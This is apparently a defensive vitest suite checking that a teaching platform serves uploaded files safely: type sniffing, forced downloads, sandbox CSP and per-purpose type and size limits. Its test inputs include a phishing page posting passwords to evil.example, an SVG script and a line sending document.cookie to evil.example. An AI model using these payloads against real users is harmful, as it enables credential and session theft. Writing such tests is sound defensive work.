// Uploaded files never become pages in the product's origin, over real HTTP: the type comes from the
// bytes (not the declared Content-Type), markup and scripts are answered as downloads, every file
// answer carries the sandbox CSP, nosniff and a same-origin resource policy, and each upload purpose
// refuses the types and sizes it does not accept, in the request's language.
import { PNG } from "pngjs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { engineAvailable, type Engine, SETUP_TIMEOUT, startServer, type TestServer } from "../helpers.js";

const PAGE = `<!doctype html><html><body><form action="http://evil.example/steal" method="post">
<input name="password"><button>登录</button></form><meta http-equiv="refresh" content="0;url=http://evil.example/"></body></html>`;

const png = () => PNG.sync.write(new PNG({ width: 2, height: 2 }));

/** The suite, against one database engine (skipped for PostgreSQL without SERVER_TEST_DATABASE_URL). */
export function defineUploadSafetyTests(engine: Engine) {
  describe.skipIf(!engineAvailable(engine))(engine, () => {
    let s: TestServer;
    let student: string;

    beforeAll(async () => {
      s = await startServer(engine);
      student = (await s.login("student03")).accessToken;
    }, SETUP_TIMEOUT);
    afterAll(async () => s?.close());

    async function upload(bytes: Buffer | string, name: string, declared: string, folder?: string, lang?: string) {
      const form = new FormData();
      form.append(
        "file",
        new Blob([typeof bytes === "string" ? bytes : new Uint8Array(bytes)], { type: declared }),
        name,
      );
      if (folder) form.append("path", folder);
      const res = await fetch(`${s.base}/teach/file/s3/ali/api`, {
        method: "POST",
        headers: { authorization: `Bearer ${student}`, ...(lang ? { "accept-language": lang } : {}) },
        body: form,
      });
      return {
        status: res.status,
        ...((await res.json()) as { code: number; msg: string; data: { url: string; path: string } }),
      };
    }

    const fetchFile = (url: string) => fetch(`${s.url}${url}`);

    function expectLockedDown(res: Response) {
      expect(res.headers.get("content-security-policy")).toBe("default-src 'none'; sandbox");
      expect(res.headers.get("x-content-type-options")).toBe("nosniff");
      expect(res.headers.get("cross-origin-resource-policy")).toBe("same-origin");
    }

    it("answers HTML, SVG, XHTML and JavaScript files as downloads, whatever type the upload declared", async () => {
      const cases = [
        { name: "作业说明.html", body: PAGE, declared: "text/html", type: "text/html" },
        { name: "作业说明.htm", body: PAGE, declared: "image/png", type: "text/html" },
        {
          name: "logo.svg",
          body: `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`,
          declared: "image/svg+xml",
          type: "image/svg+xml",
        },
        {
          name: "page.xhtml",
          body: `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><form/></body></html>`,
          declared: "application/xhtml+xml",
          type: "application/xhtml+xml",
        },
        {
          name: "tool.js",
          body: "fetch('http://evil.example/'+document.cookie)",
          declared: "text/plain",
          type: "text/javascript",
        },
        // Markup with a harmless name is still markup.
        { name: "notes.txt", body: PAGE, declared: "text/plain", type: "text/html" },
      ];
      for (const c of cases) {
        const up = await upload(c.body, c.name, c.declared);
        expect(up.code, c.name).toBe(0);
        const res = await fetchFile(up.data.url);
        expect(res.status, c.name).toBe(200);
        expect(res.headers.get("content-type"), c.name).toBe(c.type);
        expect(res.headers.get("content-disposition"), c.name).toMatch(/^attachment; /);
        expectLockedDown(res);
      }
    });

    it("stores and serves a PNG declared as text/html as the PNG it is, shown in place", async () => {
      const bytes = png();
      const up = await upload(bytes, "photo.html", "text/html");
      expect(up.code).toBe(0);
      const res = await fetchFile(up.data.url);
      expect(res.headers.get("content-type")).toBe("image/png");
      expect(res.headers.get("content-disposition")).toMatch(/^inline; /);
      expectLockedDown(res);
      expect(Buffer.from(await res.arrayBuffer()).equals(bytes)).toBe(true);
    });

    it("shows plain text and PDF in place, and anything unknown as a download", async () => {
      const text = await upload("第一段\n第二段\n", "readme.txt", "application/octet-stream");
      const textRes = await fetchFile(text.data.url);
      expect(textRes.headers.get("content-type")).toBe("text/plain; charset=utf-8");
      expect(textRes.headers.get("content-disposition")).toMatch(/^inline; /);
      // Text from an older Windows editor (GBK) is still text; the browser picks its charset.
      const gbk = await upload(Buffer.from([0xc4, 0xe3, 0xba, 0xc3, 0x0a]), "你好.txt", "text/plain");
      const gbkRes = await fetchFile(gbk.data.url);
      expect(gbkRes.headers.get("content-type")).toBe("text/plain");
      expect(gbkRes.headers.get("content-disposition")).toMatch(/^inline; /);
      const pdf = await upload("%PDF-1.4\n%%EOF\n", "lecture.pdf", "text/html");
      expect((await fetchFile(pdf.data.url)).headers.get("content-type")).toBe("application/pdf");
      const blob = await upload(Buffer.from([1, 2, 3, 0, 5, 6, 7]), "data.png", "image/png");
      const blobRes = await fetchFile(blob.data.url);
      expect(blobRes.headers.get("content-type")).toBe("application/octet-stream");
      expect(blobRes.headers.get("content-disposition")).toMatch(/^attachment; /);
      expectLockedDown(blobRes);
    });

    it("refuses a text file declared image/png where an image is required, in the request's language", async () => {
      const avatar = new FormData();
      avatar.append("avatarFile", new Blob(["not a picture"], { type: "image/png" }), "me.png");
      const res = await fetch(`${s.base}/system/user/profile/update-avatar`, {
        method: "PUT",
        headers: { authorization: `Bearer ${student}` },
        body: avatar,
      });
      const body = (await res.json()) as { code: number; msg: string };
      expect([res.status, body.code]).toEqual([400, 400]);
      expect(body.msg).toBe("不支持的文件类型：me.png（头像只接受 PNG, JPEG, GIF, WebP）");

      const face = await upload("not a picture", "face.jpg", "image/jpeg", "face", "en");
      expect([face.status, face.msg]).toEqual([
        400,
        "File type not accepted: face.jpg (a face photo may be PNG, JPEG, WebP)",
      ]);
      // A picture is accepted for the same purpose.
      expect((await upload(png(), "face.png", "image/png", "face")).code).toBe(0);
    });

    it("refuses a file the purpose does not take later too: a face enrolment or check-in with a page", async () => {
      const page = await upload(PAGE, "face.jpg", "image/jpeg");
      expect(page.code).toBe(0);
      const enrol = await s.call("POST", "/teach/face-database/create", {
        token: student,
        body: { path: page.data.path },
      });
      expect([enrol.status, enrol.msg]).toEqual([400, "不支持的文件类型：face.jpg（人脸照片只接受 PNG, JPEG, WebP）"]);
    });

    it("keeps each purpose's size limit", async () => {
      const big = Buffer.concat([png(), Buffer.alloc(2 * 1024 * 1024)]);
      const r = await upload(big, "big.png", "image/png", "avatar", "en");
      expect([r.status, r.msg]).toEqual([400, "File too large: big.png (a profile picture may be at most 2 MB)"]);
      // The same bytes as a plain file are within the server's upload limit.
      expect((await upload(big, "big.png", "image/png")).code).toBe(0);
    });
  });
}
